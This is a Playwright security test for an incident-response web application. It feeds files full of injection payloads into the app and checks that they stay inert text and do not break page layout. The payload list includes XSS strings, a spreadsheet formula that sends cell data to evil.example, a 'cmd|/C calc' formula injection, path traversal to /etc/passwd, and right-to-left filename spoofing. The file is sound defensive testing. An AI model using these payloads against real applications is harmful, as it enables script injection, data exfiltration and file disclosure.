import { expect, test, type Page } from '@playwright/test';
import { accessible, go, open, watch } from './watch';

// Text from files is hostile: it is shown on every page, and is never anything but text. What the engine writes of such files
// is held against real parsers by tests/it/hostile.rs, with the same payloads in every field of every format.
const LONG = 'W'.repeat(10_000);
const PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror=window.__pwned=1>',
  '"><svg/onload=window.__pwned=1>',
  "' onmouseover='window.__pwned=1' x='",
  '</title></style></textarea></script><iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;">',
  '[press](javascript:window.__pwned=1) ![x](https://evil.example/x.png) <https://evil.example>',
  '{{7*7}}${7*7}<b>&lt;i&gt;</b>',
  '=HYPERLINK("https://evil.example/?"&A1,"press")',
  "@SUM(1+9)*cmd|'/C calc'!A0",
  '../../../../etc/passwd',
  '..\\..\\C:\\Windows\\win.ini',
  'invoice\u202Egpj.exe',
  '\u2066\u202Dadmin\u2069 // \u202E begin \u2067',
  '\u200F\u05D0\u05D1\u05D2 10:30\u200E (\u061C12)',
  'a\u0301\u0301\u0301\u200B\u00AD\u001B[31m\uFFFE',
  LONG,
];
const STEPS = ['compromise', 'exposure_started', 'first_signal', 'detected', 'acknowledged', 'declared', 'aware', 'evidence_preserved', 'contained', 'eradicated', 'recovered', 'authority_notified', 'individuals_notified', 'support_opened', 'closed'];

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
const minute = (n: number) => `2026-03-16T${String(8 + Math.floor(n / 60)).padStart(2, '0')}:${String(n % 60).padStart(2, '0')}:00+00:00`;
/** Each payload in each column, a row each; the first rows are the milestones, and one row is refused. */
const table = [
  'message,datetime,timestamp_desc,actor,host,tag',
  ...PAYLOADS.map((p, n) => [p, minute(n), p, p, p, STEPS[n] ? `milestone:${STEPS[n]}` : p].map(cell).join(',')),
  ...PAYLOADS.flatMap((p, n) => [
    [p, minute(60 + n), 'Event', 'ana', 'shop01', ''], ['Breach', minute(80 + n), p, 'ana', 'shop01', ''], ['Breach', minute(100 + n), 'Event', p, 'shop01', ''],
    ['Breach', minute(120 + n), 'Event', 'ana', p, ''], ['Breach', minute(140 + n), 'Event', 'ana', 'shop01', p], ['Breach', p, 'Event', 'ana', 'shop01', ''],
  ].map((row) => row.map(cell).join(','))),
].join('\n');
const slack = JSON.stringify(PAYLOADS.map((p, n) => ({ type: 'message', user: p, ts: `${1773654510 + n}.0002`, text: `breach ${p}`, reactions: [{ name: 'pushpin' }] })));
const plan = `# Plan ${PAYLOADS[1]}\n\nVersion: 1.4 ${PAYLOADS[0]}\n\n${PAYLOADS.map((p, n) => `## ${n} Identify, isolate, notify ${p}\n\n${p}\n\n1. Within 15 minutes: ${p}\n- [ ] ${p}\n\n| a | b |\n|---|---|\n| ${p.replaceAll('|', '\\|')} | x |\n`).join('\n')}`;
const file = (name: string, text: string) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });

/** What makes the page or its main part scroll sideways. */
function outside(): string[] {
  const told = (e: Element) => `${e.tagName}.${e.getAttribute('class')} in ${e.parentElement?.getAttribute('class')}`;
  // What scrolls or cuts by itself may hold what is wider, unless that is placed against something further out.
  const held = (e: Element): boolean => {
    const { position } = getComputedStyle(e);
    const around = position === 'fixed' ? null : position === 'absolute' ? (e as HTMLElement).offsetParent : e.parentElement;
    return around instanceof Element && around !== document.body && (getComputedStyle(around).overflowX !== 'visible' || held(around));
  };
  const root = document.documentElement, main = document.querySelector('main');
  const found: string[] = [];
  if (root.scrollWidth > root.clientWidth) {
    const beyond = [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > root.clientWidth + 1 && !held(e));
    found.push(`${root.scrollWidth} of ${root.clientWidth}`, ...beyond.slice(0, 4).map(told));
  }
  if (main && main.scrollWidth > main.clientWidth + 1) {
    const edge = main.getBoundingClientRect().right + 1;
    found.push(`main: ${main.scrollWidth} of ${main.clientWidth}`, ...[...main.querySelectorAll('*')].filter((e) => e.getBoundingClientRect().right > edge).slice(0, 4).map(told));
  }
  return found;
}

/** Nothing that a file says has become part of the page, and nothing stands out of it. */
async function inert(page: Page, where: string): Promise<void> {
  const wrong = await page.evaluate(() => {
    const found: string[] = [];
    if ('__pwned' in window) found.push('a script has run');
    for (const element of document.querySelectorAll('*')) {
      if (['IFRAME', 'OBJECT', 'EMBED', 'IMG', 'BASE', 'FRAME'].includes(element.tagName)) found.push(element.outerHTML.slice(0, 200));
      if (element.tagName === 'SCRIPT' && !(element as HTMLScriptElement).src.startsWith(`${location.origin}/`)) found.push('a script');
      for (const { name, value } of element.attributes) {
        const leaves = (name === 'href' || name === 'src') && /^[a-z]+:/i.test(value) && !/^(data:image\/svg|blob:)/.test(value) && !value.startsWith(location.origin);
        if (name.startsWith('on') || name === 'srcdoc' || leaves) found.push(`<${element.tagName} ${name}="${value.slice(0, 120)}">`);
      }
    }
    // Text nodes, not what stands in fields: that is a person's own.
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walk.nextNode(); node; node = walk.nextNode()) {
      if (/[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C\uFFFE\uFFFF]/.test(node.nodeValue ?? '')) found.push(`a turn of direction: ${node.nodeValue!.slice(0, 60)}`);
    }
    return [...new Set(found)].slice(0, 8);
  });
  expect.soft(wrong, where).toEqual([]);
  for (const [width, height] of [[1280, 720], [390, 844]] as const) {
    await page.setViewportSize({ width, height });
    // Charts follow the size of the window a moment later.
    let out: string[] = [];
    for (let n = 0; n < 20; n += 1) {
      out = await page.evaluate(outside);
      if (out.length === 0) break;
      await page.waitForTimeout(100);
    }
    expect.soft(out, `${where}, ${width} wide`).toEqual([]);
    if (process.env.SCREENS) await page.screenshot({ path: `results/screens/hostile-${where.replaceAll(' ', '-')}-${width}.png` });
  }
  await page.setViewportSize({ width: 1280, height: 720 });
}

test('no payload of a file acts, leaves, turns or breaks a page', async ({ page }) => {
  test.setTimeout(400_000);
  const wrong = watch(page);
  page.on('dialog', (dialog) => { wrong.push(`dialog: ${dialog.message()}`); void dialog.dismiss(); });
  await page.addInitScript(() => addEventListener('securitypolicyviolation', (event) => console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`)));
  await page.setViewportSize({ width: 1280, height: 720 });
  await page.goto('./');
  await open(page, [file('<img src=x onerror=window.__pwned=1>\u202Evsc.csv', table), file('2026-03-16.json', slack), file('plan.md', plan)]);
  // What became of each is told, because a row in six of the table is refused.
  const proceed = page.getByRole('button', { name: 'Go on' });
  await expect(proceed).toBeVisible({ timeout: 60_000 });
  await inert(page, 'opening');
  await proceed.click();
  await go(page, 'Timeline');
  const main = page.getByRole('main');
  const rows = main.getByRole('grid').getByRole('row');
  await expect(rows.filter({ hasText: '<script>window.__pwned=1</script>' }).first()).toBeVisible();

  // Literally, in the list and in the drawer.
  const search = page.getByRole('searchbox', { name: 'Search events' });
  for (const payload of PAYLOADS.slice(0, 3)) {
    await search.fill(payload);
    await expect(main).toContainText(/\d of 112 events/);
    const event = page.getByRole('complementary', { name: 'Event' });
    // The list may be made anew between finding a row and pressing it, and every row names a file that has a payload for its name.
    await expect(async () => {
      await rows.filter({ hasText: payload }).first().click();
      if (!(await event.isVisible())) await page.keyboard.press('o');
      await expect(event.getByLabel('Original row')).toContainText(payload.slice(2, 20), { timeout: 2_000 });
    }).toPass();
    await expect(event).toContainText(payload);
  }
  await inert(page, 'an event');
  await accessible(page, 'an event');
  await page.keyboard.press('Escape');
  await search.fill('');

  // The title, and a note in the meeting: what a person types is no more trusted.
  const title = page.getByRole('textbox', { name: 'Title of the case' });
  await title.fill(`${PAYLOADS[1]}\u202E${PAYLOADS[7]}${'W'.repeat(300)}`);
  await title.press('Enter');

  for (const name of ['Sources', 'Timeline', 'Response', 'Obligations', 'Findings', 'Plan', 'Report', 'Cases', 'Meeting', 'Help', 'Settings', 'Start']) {
    if (name === 'Start') await page.goto('./#/start');
    else await go(page, name);
    await page.waitForTimeout(700);
    await page.evaluate(() => document.querySelectorAll('details').forEach((details) => { details.open = true; }));
    await inert(page, name);
    await accessible(page, name);
  }

  await go(page, 'Report');
  for (const name of ['Notices', 'Share']) {
    await page.getByRole('radio', { name, exact: true }).check();
    await page.waitForTimeout(900);
    await inert(page, name);
    await accessible(page, name);
  }

  await go(page, 'Meeting');
  await main.getByRole('button', { name: 'Begin the meeting' }).click();
  for (const payload of PAYLOADS.slice(0, -1)) {
    await page.getByRole('textbox', { name: /^Capture/ }).fill(`* ${payload}`);
    await page.keyboard.press('Enter');
  }
  await main.getByRole('button', { name: /Timeline walk/ }).first().click();
  await page.waitForTimeout(500);
  await inert(page, 'the walk');
  await main.getByRole('button', { name: /^Findings/ }).first().click();
  await page.waitForTimeout(500);
  await inert(page, 'findings in the meeting');
  await accessible(page, 'findings in the meeting');

  // An exercise on it: what the record says, and what teams answer.
  await go(page, 'Exercise');
  await page.waitForTimeout(700);
  await inert(page, 'the set-up of an exercise');
  await accessible(page, 'the set-up of an exercise');
  await main.getByLabel('Name of the session').fill(PAYLOADS[0]!);
  await main.getByLabel('Teams, one a line').fill(PAYLOADS.slice(1, 4).join('\n'));
  await main.getByRole('button', { name: 'Begin the session' }).click();
  for (const payload of PAYLOADS.slice(0, -1)) {
    await main.getByRole('textbox', { name: /What do you do/ }).fill(payload);
    await page.keyboard.press('Control+Enter');
    await expect(main.getByRole('textbox', { name: /What do you do/ })).toHaveValue('');
  }
  await inert(page, 'an exercise');
  await accessible(page, 'an exercise');
  await main.getByRole('button', { name: 'End the session' }).click();
  await page.waitForTimeout(500);
  await page.evaluate(() => document.querySelectorAll('details').forEach((details) => { details.open = true; }));
  await inert(page, 'the debrief');

  // All of it is kept, and comes back as text.
  await page.reload();
  await go(page, 'Timeline');
  await expect(rows.filter({ hasText: '<script>window.__pwned=1</script>' }).first()).toBeVisible();
  await inert(page, 'after a reload');
  expect(wrong).toEqual([]);
});
